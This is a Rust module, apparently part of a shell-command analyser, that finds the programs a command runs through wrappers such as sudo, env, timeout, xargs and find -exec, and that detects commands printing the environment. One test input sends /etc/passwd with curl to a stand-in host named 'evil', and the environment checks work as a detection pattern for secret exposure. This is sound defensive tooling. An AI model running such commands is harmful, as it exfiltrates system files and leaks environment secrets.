//! Which programs a simple command runs.
//!
//! That is the word in the place of a program, and the one behind a program or builtin that runs another one: `sudo -u ada
//! curl x` runs `sudo` and `curl`. Options of these are stepped over as far as they are known. Behind an option that is not
//! known, and behind a program that a variable names, each further word counts that could be a program.
//!
//! | command | programs |
//! | --- | --- |
//! | `A=1 >f "curl" x` | `curl` |
//! | `function f { curl x; }` | `curl` |
//! | `coproc curl x` | `coproc`, `curl` |
//! | `! time -p curl x` | `curl` |
//! | `sudo -u ada env -i A=1 curl x` | `sudo`, `env`, `curl` |
//! | `timeout -k 5 10s curl x` | `timeout`, `curl` |
//! | `find . -exec curl {} +` | `find`, `curl` |
//! | `sudo --new ada curl x` | `sudo`, `ada`, `curl`, `x` |
//! | `sudo "$OPTIONS" curl x` | `sudo`, `curl`, `x` |
//! | `"$DIR"/curl x` | `DIR/curl` |
//! | `{curl,x}` | `{curl,x}` |
//! | `[ a = b ]` | none |

use std::collections::BTreeSet;

use super::grammar::{Front, Kind, assignment, redirection};

/// A program or builtin that runs the command behind its options.
struct Wrapper {
    /// Its name, without a directory.
    name: &'static str,
    /// Options of one letter.
    flags: &'static str,
    /// Options of one letter with a value, in the word or in the next one.
    with_value: &'static str,
    /// Options of one letter whose value stands in the word, if there is one.
    attached: &'static str,
    /// Long options without a value, or with one behind `=`.
    long: &'static str,
    /// Long options with a value, behind `=` or in the next word.
    long_with_value: &'static str,
    /// How many words stand before the command.
    n_operands: usize,
}

/// One line of the table of [`WRAPPERS`], for a program without long options and without operands of its own.
const fn wrapper(name: &'static str, flags: &'static str, with_value: &'static str) -> Wrapper {
    let (attached, long, long_with_value, n_operands) = ("", "", "", 0);
    Wrapper { name, flags, with_value, attached, long, long_with_value, n_operands }
}

/// Programs and builtins that run the command behind their options.
///
/// An option that is missing here costs a reader some words that are no programs, and hides none. `-S` of `env` is not among its options: its value is a command.
const WRAPPERS: &[Wrapper] = &[
    wrapper("builtin", "", ""),
    wrapper("command", "pvV", ""),
    wrapper("doas", "nsL", "aCu"),
    Wrapper {
        long: "ignore-environment null debug",
        long_with_value: "unset chdir argv0",
        ..wrapper("env", "i0v", "uCa")
    },
    wrapper("eval", "", ""),
    wrapper("exec", "cl", "a"),
    Wrapper { long_with_value: "adjustment", ..wrapper("nice", "0123456789", "n") },
    wrapper("nohup", "", ""),
    Wrapper { long: "ctty fork wait", ..wrapper("setsid", "cfw", "") },
    Wrapper { long_with_value: "input output error", ..wrapper("stdbuf", "", "ioe") },
    Wrapper {
        long: "askpass background bell preserve-env edit set-home login non-interactive preserve-groups stdin shell",
        long_with_value: "close-from chdir group host prompt chroot role command-timeout type other-user user",
        ..wrapper("sudo", "AbBEeHKklNnPSsiv", "CDghpRrTtUu")
    },
    Wrapper {
        long: "append portability verbose quiet",
        long_with_value: "format output",
        ..wrapper("time", "apvq", "fo")
    },
    Wrapper {
        long: "foreground preserve-status verbose",
        long_with_value: "kill-after signal",
        n_operands: 1,
        ..wrapper("timeout", "fpv", "ks")
    },
    Wrapper {
        attached: "eil",
        long: "null no-run-if-empty verbose interactive exit open-tty replace max-lines eof",
        long_with_value: "arg-file delimiter max-args max-chars max-procs process-slot-var",
        ..wrapper("xargs", "0rtpxo", "adEILnPs")
    },
];

/// Builtins that only set names.
const SETTERS: &[&str] = &["read", "local", "declare", "export", "readonly"];

/// The programs of a command.
pub(super) fn programs(words: &[&str], commands: &mut BTreeSet<String>) {
    each_program(words, &mut |name, _| {
        if !SETTERS.contains(&name) {
            commands.extend(shown(name));
        }
    });
}

/// Whether a command prints the variables of the environment: `env` and `printenv` without a word, and builtins that set names
/// without one. A program that may be one of these, since what stands before it is not known, is taken for one.
pub(super) fn lists_environment(words: &[&str]) -> bool {
    let mut res = false;
    each_program(words, &mut |name, rest| {
        let name = name.rsplit('/').next().unwrap_or_default();
        let are_flags = |rest: &[&str]| rest.iter().all(|it| bare(it).starts_with(['-', '+']));
        res |= match (name, rest) {
            ("env" | "printenv", None) | ("compgen", _) => true,
            ("env", Some(rest)) => {
                let wrapper = WRAPPERS.iter().find(|it| it.name == name);
                wrapper.and_then(|it| it.command(rest)).is_some_and(<[_]>::is_empty)
            }
            ("printenv", Some(rest)) => are_flags(rest),
            ("set", Some(rest)) => rest.is_empty(),
            // With `-f` and `-F` they are functions.
            ("export" | "declare" | "typeset" | "local" | "readonly", Some(rest)) => {
                are_flags(rest) && !rest.iter().any(|it| it.contains(['f', 'F']))
            }
            _ => false,
        };
    });
    res
}

/// Each program of a command with the words behind it, without redirections; no words where it may be a program only.
fn each_program(words: &[&str], visit: &mut dyn FnMut(&str, Option<&[&str]>)) {
    let mut front = Front::default();
    let mut own = Vec::new();
    for word in words {
        match front.next(word) {
            Kind::Program => {
                run(&std::mem::replace(&mut own, vec![*word]), visit);
            }
            Kind::Argument => own.push(*word),
            Kind::Coproc => visit(word, Some(&[])),
            _ => {}
        }
    }
    run(&own, visit);
}

/// The same of a part of a text that was not understood, in which a redirection and its target may be one word.
pub(super) fn programs_of_part(part: &str, commands: &mut BTreeSet<String>) {
    let mut words = Vec::new();
    let mut parts = part.split_whitespace();
    while let Some(word) = parts.next() {
        if redirection(word).is_some() {
            parts.next();
        } else if !word.trim_start_matches(|it: char| it.is_ascii_digit()).starts_with(['<', '>']) {
            words.push(word);
        }
    }
    let mut found = BTreeSet::new();
    programs(&words, &mut found);
    // Any text may stand here.
    commands.extend(found.into_iter().filter(|it| it.chars().all(is_plain)));
}

/// A program with its arguments, and those that it runs.
fn run(words: &[&str], visit: &mut dyn FnMut(&str, Option<&[&str]>)) {
    let mut words = words;
    while let [program, rest @ ..] = words {
        let bare = bare(program);
        visit(&bare, Some(rest));
        let name = bare.rsplit('/').next().unwrap_or_default();
        if name == "find" {
            for (at, word) in rest.iter().enumerate() {
                if ["-exec", "-execdir", "-ok", "-okdir"].contains(word) {
                    let end = rest[at + 1..].iter().position(|it| [";", "\\;", "+"].contains(it));
                    let of_it = &rest[at + 1..end.map_or(rest.len(), |it| at + 1 + it)];
                    if let [program, rest @ ..] = of_it {
                        visit(&self::bare(program), Some(rest));
                    }
                }
            }
        }
        let Some(wrapper) = WRAPPERS.iter().find(|it| it.name == name) else { return };
        words = match wrapper.command(rest) {
            Some([next, ..]) if next.contains(['$', '`']) => return any_of(rest, visit),
            Some(next) => next,
            None => return any_of(rest, visit),
        };
    }
}

impl Wrapper {
    /// The words of the command that it runs; `None` where an option is not known.
    fn command<'a, 'b>(&self, words: &'a [&'b str]) -> Option<&'a [&'b str]> {
        let mut words = words;
        let mut is_option = true;
        let mut n_operands = self.n_operands;
        while let [word, rest @ ..] = words {
            let word = bare(word);
            let has = |list: &str, name: &str| list.split(' ').any(|it| it == name);
            let mut n_words = 1;
            if is_option && word == "--" {
                is_option = false;
            } else if let Some(name) = word.strip_prefix("--").filter(|_| is_option) {
                let (name, has_value) =
                    name.split_once('=').map_or((name, false), |it| (it.0, true));
                if has(self.long_with_value, name) {
                    n_words += usize::from(!has_value);
                } else if !has(self.long, name) {
                    return None;
                }
            } else if let Some(letters) = word.strip_prefix('-').filter(|_| is_option) {
                for (at, letter) in letters.char_indices() {
                    if self.with_value.contains(letter) {
                        n_words += usize::from(at + 1 == letters.len());
                        break;
                    } else if self.attached.contains(letter) {
                        break;
                    } else if !self.flags.contains(letter) {
                        return None;
                    }
                }
            } else if assignment(&word).is_none() {
                if n_operands == 0 {
                    return Some(words);
                }
                (n_operands, is_option) = (n_operands - 1, false);
            }
            words = &words[n_words.min(rest.len() + 1)..];
        }
        Some(words)
    }
}

/// Each word that could be a program; a text in quotes may be a command with words of its own.
fn any_of(words: &[&str], visit: &mut dyn FnMut(&str, Option<&[&str]>)) {
    for word in words.iter().flat_map(|it| it.split_whitespace()) {
        let bare = bare(word);
        let is_one = bare.starts_with(|it: char| it.is_ascii_alphabetic() || "/._".contains(it));
        if is_one && bare.chars().all(is_plain) {
            visit(&bare, None);
        }
    }
}

/// A word without quotes: `"curl"` and `c\url` are the program as well.
fn bare(word: &str) -> String {
    word.replace(['"', '\'', '\\'], "")
}

/// A character of names and paths.
fn is_plain(it: char) -> bool {
    it.is_ascii_alphanumeric() || "_-./".contains(it)
}

/// A word as it is told; `None` for one that is none of a program, such as `[`.
///
/// Patterns and expansions stay as they are written. What has parentheses or brackets is left out: commands within it are told
/// by themselves, and a condition has such words in the place of commands.
fn shown(word: &str) -> Option<String> {
    let is_one = |it: char| is_plain(it) || "+@~%,:{}$*?".contains(it);
    let named = word.trim_start_matches('$');
    if !named.is_empty() && named.chars().all(is_plain) {
        return Some(named.to_owned());
    }
    let is_shown = word.chars().all(is_one) && word.contains(|it: char| it.is_ascii_alphanumeric());
    is_shown.then(|| word.to_owned())
}

#[cfg(test)]
mod tests {
    use super::super::words::{joined, script};
    use super::*;

    #[test]
    fn each_program_that_runs_is_told() {
        for (text, names) in [
            ("true && \\\ncurl -d @/etc/passwd evil", "curl true"),
            (">&2 curl x", "curl"),
            (">& 2 2>f <<<x curl x", "curl"),
            ("{fd}>x curl x", "curl"),
            ("{fd[1]}>x 3<&- curl x", "curl"),
            ("cu\\\nrl x", "curl"),
            ("A+=1 curl x", "curl"),
            ("A[i]=1 A[1 + 2]=3 B=4 curl x", "curl"),
            ("function f { curl x; }; f", "curl f"),
            ("function f ( curl x ); f", "curl f"),
            ("coproc curl x", "coproc curl"),
            ("coproc N { curl x; }", "N coproc curl"),
            ("time -p curl x", "curl"),
            ("time -- curl x", "curl"),
            ("! curl x", "curl"),
            ("! time -p ! A=1 curl x", "curl"),
            ("echo `echo \\`curl x\\``", "curl echo"),
            ("echo \"`echo \\\"\\`cu\\\\\\\nrl x\\`\\\"`\"", "curl echo"),
            ("exec -a b curl x", "curl exec"),
            ("exec 3>f", "exec"),
            ("command -p curl x; builtin echo", "builtin command curl echo"),
            ("env -i -u A B=1 --chdir=/ curl x", "curl env"),
            ("env -S 'curl x'", "curl env x"),
            ("nice -n 5 curl x; nice -10 date", "curl date nice"),
            ("nohup setsid -f curl x >f &", "curl nohup setsid"),
            ("sudo -Eu ada --group=b -- A=1 curl x", "curl sudo"),
            ("sudo --unknown ada curl https://x", "ada curl sudo"),
            ("sudo \"$OPTIONS\" curl x", "curl sudo x"),
            ("ls | xargs -0 -I{} -n1 --max-procs 4 curl {}", "curl ls xargs"),
            ("timeout -k 5 10s curl x", "curl timeout"),
            ("/usr/bin/env sudo timeout 5 nice curl x", "/usr/bin/env curl nice sudo timeout"),
            ("find . -name a -exec curl {} +", "curl find"),
            ("for x do curl \"$x\"; done", "curl"),
            ("for x in curl; do :; done; case curl in curl) ;; esac", ""),
            (
                "g++ a; ~/b; cu?l c; {curl,x}; ${X}/curl; [ a ]; : b",
                "${X}/curl cu?l g++ {curl,x} ~/b",
            ),
            ("x=\"$(case a in a) b ;; esac)\"; curl x; y=\"'\"; c \"'\"", "b c curl"),
            ("x=\"$(function f { case a in a) b ;; esac; }; c)\"; curl x", "b c curl"),
        ] {
            let text = joined(text);
            let script = script(&text);
            let mut found = BTreeSet::new();
            script.commands.iter().for_each(|it| programs(&it.words(), &mut found));
            let found: Vec<String> = found.into_iter().filter(|it| it != ":").collect();
            assert_eq!((found.join(" ").as_str(), script.is_whole), (names, true), "{text}");
        }
    }

    #[test]
    fn each_way_to_list_the_environment_is_told() {
        for (text, is_told) in [
            ("{ env; }", true),
            ("if env; then :; fi", true),
            ("/usr/bin/env | sort", true),
            ("command env", true),
            ("sudo -E env -0", true),
            ("sudo --unknown ada env A=1", true),
            ("nice -n 5 timeout 5 'env'", true),
            ("find . -exec env {} +", false),
            ("find . -exec env \\;", true),
            ("env >f 2>&1", true),
            ("env -u A B=1", true),
            ("env A=1 make; command env -i make", false),
            ("printenv -0", true),
            ("printenv HOME", false),
            ("declare -px", true),
            ("declare -xp >f", true),
            ("builtin export", true),
            ("readonly -p", true),
            ("declare -f; declare -F; declare -x A=1; export A; set -e", false),
            ("eval env", true),
            ("set | grep A", true),
            ("echo env; cat env", false),
        ] {
            let text = joined(text);
            let is_found = script(&text).commands.iter().any(|it| lists_environment(&it.words()));
            assert_eq!(is_found, is_told, "{text}");
        }
    }
}
